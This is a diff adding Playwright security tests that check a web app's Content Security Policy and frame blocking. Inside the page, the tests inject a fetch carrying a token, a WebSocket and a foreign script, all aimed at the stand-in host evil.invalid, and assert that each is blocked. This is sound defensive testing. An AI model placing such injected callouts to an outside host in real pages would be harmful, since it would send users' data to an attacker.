@@ -1,0 +1,85 @@
+import type { Page } from '@playwright/test';
+
+import { expect, test } from '../fixtures/test';
+
+const EVIL = 'https://evil.invalid';
+
+/** What reaches the other origin: a blocked request never comes so far. */
+const watchEvil = async (page: Page): Promise<() => number> => {
+  let reached = 0;
+  await page.route(`${EVIL}/**`, (route) => {
+    reached += 1;
+    return route.fulfill({
+      status: 200,
+      body: '',
+      headers: { 'access-control-allow-origin': '*' },
+    });
+  });
+  return () => reached;
+};
+
+// The browser names a request that it blocks, too.
+test.beforeEach(({ troubles }) => {
+  troubles.expect(/^foreign origin: (?:https|wss):\/\/evil\.invalid\//);
+  troubles.expect(/^console: .*(?:evil\.invalid|inline script|Content Security Policy)/i);
+});
+
+test('T26 a script on the page cannot call another origin', async ({ page, troubles }) => {
+  troubles.require(/^csp: connect-src blocked https:\/\/evil\.invalid/);
+  troubles.require(/^csp: connect-src blocked wss:\/\/evil\.invalid/);
+  const reached = await watchEvil(page);
+  await page.goto('/');
+  const outcomes = await page.evaluate(async (evil) => {
+    const socket = () =>
+      new Promise((resolve, reject) => {
+        const opening = new WebSocket(evil.replace('https', 'wss'));
+        opening.addEventListener('open', resolve);
+        opening.addEventListener('error', reject);
+      });
+    const attempts = [fetch(`${evil}/?token=1`), socket()];
+    return (await Promise.allSettled(attempts)).map(({ status }) => status);
+  }, `${EVIL}`);
+  expect(outcomes).toEqual(['rejected', 'rejected']);
+  expect(reached()).toBe(0);
+});
+
+test('T26 an injected script neither runs inline nor comes from elsewhere', async ({
+  page,
+  troubles,
+}) => {
+  troubles.require(/^csp: script-src-elem blocked inline/);
+  troubles.require(/^csp: script-src-elem blocked https:\/\/evil\.invalid/);
+  const reached = await watchEvil(page);
+  await page.goto('/');
+  await page.evaluate((evil) => {
+    const inline = document.createElement('script');
+    inline.textContent = 'window.hasRun = true';
+    const foreign = document.createElement('script');
+    foreign.src = `${evil}/x.js`;
+    document.body.append(inline, foreign);
+  }, EVIL);
+  expect(await page.evaluate(() => 'hasRun' in window)).toBe(false);
+  expect(reached()).toBe(0);
+});
+
+test('T50 in a frame the page stays blank', async ({ page, product, troubles }) => {
+  troubles.expect(/^console: .*Failed to load resource/);
+  const framing = `${product.mockUrl}/framing`;
+  await page.route(framing, (route) =>
+    route.fulfill({
+      contentType: 'text/html',
+      body: `<!doctype html><title>Framing</title><iframe src="${product.bffUrl}/"></iframe>`,
+    }),
+  );
+  const refused = page.waitForEvent(
+    'requestfailed',
+    (request) => request.url() === `${product.bffUrl}/`,
+  );
+  await page.goto(framing);
+  expect((await refused).failure()?.errorText).toBe('net::ERR_BLOCKED_BY_RESPONSE');
+  const frame = page.frameLocator('iframe');
+  await expect(frame.getByRole('banner')).toHaveCount(0);
+  await expect(frame.getByRole('button', { name: 'Connect' })).toHaveCount(0);
+  const urls = page.frames().map((each) => each.url());
+  expect(urls.filter((url) => url.startsWith(product.bffUrl))).toEqual([]);
+});
